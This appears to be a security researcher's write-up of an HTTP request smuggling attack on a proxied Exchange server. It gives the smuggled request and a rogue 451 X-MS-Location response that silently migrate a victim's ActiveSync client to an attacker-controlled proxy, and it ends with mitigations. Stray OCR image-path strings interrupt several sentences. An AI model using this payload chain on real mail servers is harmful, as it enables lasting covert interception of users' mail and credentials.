  1. The client tries to retrieve mail via the HTTP ActiveSync protocol.2. Exchange checks if the mailbox of the user exists or if it is migrated to Office365.
  3. The DC returns that the mailbox is not found (this means it was migrated).
  4. Exchange tries to get the TargetOWAURL of the domain (which is where the mailbox is hosted).
  5. The DC returns the TargetOWAURL (outlook.office365.com in this case).
  6. Exchange responds to the client with a HTTP 451 redirect to the TargetOWAURL.
  7. The client uses the TargetOWAURL for all future requests.
  8. The HTTP ActiveSync request to TargetOWAURL was successful.

Legitimate migration of Exchange clientSo, to conclude, if the Exchange server responds with a 451 Unavailable For Legal Reasons in combination with the X-MS-Location header, the victims Exchange server configuration is updated accordingly. An example of such a response is included below.

HTTP/1.1 451 Unavailable For Legal Reasons
Date: Thu, 12 Mar 2009 20:16:22 GMT
X-MS-Location: https://mail.contoso.com/Microsoft-Server-ActiveSync
Content-Length: 0

However, using our HRS attack it is not possible to generate a 451 UnavailableFor Legal Reasons for the victim. It is only possible to generate a 301 Moved Permanently, as that is the response when adding a URI to the first line of a GET request. We can however redirect the victim using the 301 Moved Permanently to our rogue server, which responds with a 451 Unavailable For Legal Reasons to a rogue exchange server subsequently. If we make sure that the rogue exchange server is simply a proxy to the legitimate environment, we can permanently man-in-the-middle all of the victims’ ActiveSync requests, while the victim won’t notice a thing. The attack is demonstrated below.

Malicious migration of Exchange client

Migrating the victims’ mailbox to our rogue exchange

To demonstrate that the above theory works, we connected a ‘victim’(tgad.local\bob) to our demo environment; an Exchange server behind the proxytgvmex01.local. Bob is connected using ActiveSync. His iOS Exchange configuration is included below.

Legitimate settings of the Exchange client

A threat actor that would like to migrate Bob’s mailbox to a rogue exchange server needs to start by performing an HRS attack which redirects Bob’s ActiveSync requests to a rogue server. An example is included below.

POST /owa/auth/logon.aspx?2whS=929722944 HTTP/1.1
 Transfer-Encoding: chunked
Connection: keep-alive
Host: tgvmex01.proxyUser-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:75.0) Gecko/20100101 Firefox/75.0
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8
Accept-Language: nl,en-US;q=0.7,en;q=0.3
Accept-Encoding: gzip, deflate
Upgrade-Insecure-Requests: 1
Content-Type: application/x-www-form-urlencoded
Content-Length: 160


GET https://rogue-server.remote/ HTTP/1.1
X-Ignore: X

The server rogue-server.com always serves the same response, no matter what the request is. This response is included below and has the 451 Unavailable For Legal Reasons status with the rogue exchange server in the response headers.HTTP/1.1 451 Unavailable For Legal Reasons
Date: Thu, 08 Apr 2021 18:14:22 GMT
Server: Apache/2.4.46 (Debian)
X-MS-Location: https://rogue-exchange.remote/
Content-Length: 0
Connection: close
Content-Type: text/html; charset=UTF-8

When Bob falls victim to the HRS attack, he will be served with the 451 Unavailable For Legal Reasons response of the rogue server. Bob’s email client will change the server address to rogue-exchange.remote, as the response indicated a mailbox migration to this rogue exchange.

The first few tries of this attack didn’t work. But after trying it for several times in a row, the HRS attack finally triggered on Bob’s synchronization request, causing Bob’s mail client to change the configuration to the rogue exchange, as can be seen in Bob’s Exchange settings below.

Rogue settings of the Exchange client

Victory ! As the rogue exchange proxies all requests to the legitimate exchange, Bob won’t notice the malicious configuration change (unless he looks at his Exchange settings). As a threat actor, we are now able to intercept all his ActiveSync requests, even after Bob changes his credentials.Multiple mitigations for HRS vulnerabilities exist. In an ideal world both the proxy and backend server (in this case Exchange) interpret HTTP requests exactly as stated in the RFC7231. That would prevent HRS vulnerabilities as both servers interpret the boundaries of HTTPrequests in the same manner.

However, we are not living in the ideal world. A better mitigation is to disable http-reuse (a performance optimization) between the proxy and the backend, so that each request is sent over a separate network connection. Additionally, HRS could be mitigated by forcing HTTP/2 connections from the proxy to the backend, as HRS vulnerabilities cannot arise in this version of theHTTP protocol.

Finally, we strongly advise against using Basic Auth as an authenticationmethod for Exchange. Use modern authentication instead. Using modern authentication, a threat actor could ‘only’ intercept oAuth tokens.